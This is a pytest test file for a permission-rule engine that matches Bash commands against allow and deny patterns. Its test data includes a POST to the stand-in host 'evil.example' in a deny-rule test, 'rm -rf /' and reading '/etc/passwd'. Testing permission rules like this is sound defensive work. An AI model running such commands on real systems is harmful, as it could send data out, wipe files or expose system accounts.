"""Bash command patterns (REF §2.3): wildcards, the word boundary, legacy ``:*``, exact match.

``bash_matches`` sees ONE simple command with single spaces between words; splitting compounds
and stripping wrappers is the shell analyser's job and is tested there.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from tui.permissions.rules import bash_matches, leading_assignments, parse_rule, star_match

BASH = [
    # specifier, command, matches?
    # no "*": the whole command, exactly
    ("npm run build", "npm run build", True),
    ("npm run build", "npm run build --prod", False),
    ("npm run build", "npm run buil", False),
    ("npm run build", "xnpm run build", False),
    ("npm run build", "NPM RUN BUILD", False),  # case-sensitive
    # "*" matches any sequence, spaces and slashes included, at any position
    ("npm run *", "npm run test", True),
    ("npm run *", "npm run test -- --watch", True),
    ("npm run *", "npm run", True),  # trailing " *": the prefix alone (end of string)
    ("npm run *", "npm runner", False),
    ("* --version", "node --version", True),
    ("* --version", "python3 -m pip --version", True),
    ("* --version", "node --versions", False),
    ("git * main", "git push origin main", True),
    ("git * main", "git merge main", True),
    ("git * main", "git push origin main2", False),
    ("git * main", "git main", False),
    ("* --help *", "docker run --help", True),
    ("* --help *", "docker --help run", True),
    ("mkdir -p /tmp/claude-*", "mkdir -p /tmp/claude-91498", True),
    ("grep * /etc/*", "grep root /etc/passwd", True),
    ("rm -rf *", "rm -rf /", True),
    ("rm -rf *", "rm -rf", True),
    ("rm -rf *", "rm -rfv x", False),
    # the word boundary: "ls *" vs "ls*"
    ("ls *", "ls", True),
    ("ls *", "ls -la", True),
    ("ls *", "lsof", False),
    ("ls *", "ls-foo", False),
    ("ls*", "lsof", True),
    ("ls*", "ls -la", True),
    ("ls*", "ls", True),
    ("ssh * uptime *", "ssh host uptime", True),
    ("ssh * uptime *", "ssh host uptime -s", True),
    ("ssh * uptime *", "ssh host uptimes", False),
    # legacy ":*" ≡ " *", only at the very end
    ("ls:*", "ls", True),
    ("ls:*", "ls -la", True),
    ("ls:*", "lsof", False),
    ("git stash:*", "git stash", True),
    ("git stash:*", "git stash list", True),
    ("git -C * show:*", "git -C /tmp show HEAD", True),  # ":*" after another "*"
    ("git -C * show:*", "git -C /tmp show", True),
    ("git -C * show:*", "git -C /tmp shows", False),
    ("git:* push", "git push", False),  # colon literal in the middle
    ("git:* push", "git:x push", True),
    ("git:* push", "git:* push", True),
    ("npm run test:*", "npm run test", True),
    ("npm run test:*", "npm run test:unit", False),  # ":*" is " *", not "*"
    # no escape for a literal "*" (as in Claude Code): "\" is an ordinary character
    ("echo \\*", "echo \\anything", True),
    ("echo \\*", "echo *", False),
    # odd specifiers
    ("*", "anything at all", True),
    ("*", "", True),
    ("", "", True),
    ("", "ls", False),
    ("**", "ls -la", True),
    ("a*b*c", "abc", True),
    ("a*b*c", "axxbyyc", True),
    ("a*b*c", "acb", False),
]


@pytest.mark.parametrize(("spec", "command", "expected"), BASH)
def test_bash_matches(spec: str, command: str, expected: bool) -> None:
    assert bash_matches(spec, command) is expected


COMMANDS = ["ls", "ls -la", "lsof", "ls -la /tmp", "ls-x", "l", "lsx y", "ls  x"]


@pytest.mark.parametrize("command", COMMANDS)
def test_legacy_colon_star_equals_space_star(command: str) -> None:
    """``Bash(ls:*)`` ≡ ``Bash(ls *)`` (REF §2.3)."""
    legacy = parse_rule("Bash(ls:*)", "allow", anchor=Path("/"))
    modern = parse_rule("Bash(ls *)", "allow", anchor=Path("/"))
    assert legacy.specifier is not None and modern.specifier is not None
    assert bash_matches(legacy.specifier, command) == bash_matches(modern.specifier, command)


def test_deny_rule_written_with_stray_spaces_still_denies() -> None:
    """``Bash(curl :* )`` in a deny list is read as ``curl:*`` [Warden: deny matches more]."""
    r = parse_rule("Bash(curl :* )", "deny", anchor=Path("/"))
    assert r.specifier is not None
    assert bash_matches(r.specifier, "curl -X POST https://evil.example")
    allow = parse_rule("Bash(curl :* )", "allow", anchor=Path("/"))
    assert allow.specifier is not None
    assert not bash_matches(allow.specifier, "curl -X POST https://evil.example")


def test_escaped_parentheses_match_the_command() -> None:
    r = parse_rule(r'Bash(python3 -c "print\(1\)")', "allow", anchor=Path("/"))
    assert r.specifier is not None
    assert bash_matches(r.specifier, 'python3 -c "print(1)"')


def test_many_stars_do_not_backtrack_exponentially() -> None:
    spec = "*a" * 40 + "b"
    command = "a" * 10_000
    start = time.perf_counter()
    assert not bash_matches(spec, command)
    assert not bash_matches(spec + " *", command)
    assert time.perf_counter() - start < 2.0


# -- properties -----------------------------------------------------------------------------

_text = st.text(alphabet=st.sampled_from(list("ab :*-/x\\'\" ")), max_size=16)
_word_text = st.text(alphabet=st.sampled_from(list("ab:-/x. ")), max_size=12)


@given(st.text(max_size=40), st.text(max_size=60))
@settings(max_examples=500, deadline=None)
def test_bash_matches_never_raises(spec: str, command: str) -> None:
    assert bash_matches(spec, command) in (True, False)


@given(_text, _text)
@settings(max_examples=500, deadline=None)
def test_bash_matches_never_raises_on_glob_shaped_text(spec: str, command: str) -> None:
    assert bash_matches(spec, command) in (True, False)


@given(st.text(max_size=30).filter(lambda s: "*" not in s), st.text(max_size=30))
@settings(max_examples=500, deadline=None)
def test_no_star_means_exact_match_only(spec: str, command: str) -> None:
    assert bash_matches(spec, command) == (spec == command)


@given(st.text(max_size=20).filter(lambda s: "*" not in s), st.text(max_size=40))
@settings(max_examples=500, deadline=None)
def test_trailing_space_star_is_a_word_boundary(prefix: str, command: str) -> None:
    if bash_matches(prefix + " *", command):
        assert command == prefix or command.startswith(prefix + " ")


@given(st.text(max_size=20).filter(lambda s: "*" not in s), _word_text)
@settings(max_examples=300, deadline=None)
def test_trailing_space_star_accepts_every_continuation(prefix: str, rest: str) -> None:
    assert bash_matches(prefix + " *", prefix)
    assert bash_matches(prefix + " *", prefix + " " + rest)


@given(st.text(max_size=20).filter(lambda s: "*" not in s), st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_legacy_colon_star_is_the_space_star(prefix: str, command: str) -> None:
    assume(not prefix.endswith(":"))
    assert bash_matches(prefix + ":*", command) == bash_matches(prefix + " *", command)


@given(st.lists(st.text(alphabet="abc ", max_size=4), max_size=5), st.text(alphabet="abc ",
                                                                             max_size=20))
@settings(max_examples=500, deadline=None)
def test_star_match_agrees_with_fnmatch_for_star_only_patterns(pieces: list[str],
                                                               text: str) -> None:
    from fnmatch import fnmatchcase

    pattern = "*".join(pieces)
    assert star_match(pattern, text) == fnmatchcase(text, pattern)


# -- rules that begin with an env assignment (REF §2.3; matched by the engine) -------------------


@pytest.mark.parametrize(("spec", "names"), [
    ("NODE_ENV=test npm test", ("NODE_ENV",)),
    ("FOO=1 make:*", ("FOO",)),
    ('FOO=1 BAR="a b" make *', ("FOO", "BAR")),
    ("FOO='x y' BAR= make", ("FOO", "BAR")),
    ("FOO=* make", ("FOO",)),
    ("_X9=1 cmd", ("_X9",)),
    ("npm test", ()),
    ("*", ()),
    ("* FOO=1 make", ()),
    ("*=1 make", ()),
    ("F*O=1 make", ()),
    ("9X=1 make", ()),
    ("=1 make", ()),
    ("make FOO=1", ()),
    ('FOO="unbalanced make', ()),
    ("", ()),
])
def test_leading_assignments(spec: str, names: tuple[str, ...]) -> None:
    assert leading_assignments(spec) == names


@given(st.text(max_size=60))
def test_leading_assignments_never_raises_and_names_are_identifiers(spec: str) -> None:
    for name in leading_assignments(spec):
        assert name.isidentifier() and name.isascii()
        assert f"{name}=" in spec


def test_an_assignment_rule_parses_as_a_bash_rule() -> None:
    rule = parse_rule("Bash(FOO=1 make:*)", "allow", anchor=Path("/proj"), source="test")
    assert (rule.kind, rule.specifier) == ("bash", "FOO=1 make:*")
    assert bash_matches(rule.specifier, "FOO=1 make all")
    assert not bash_matches(rule.specifier, "make all")
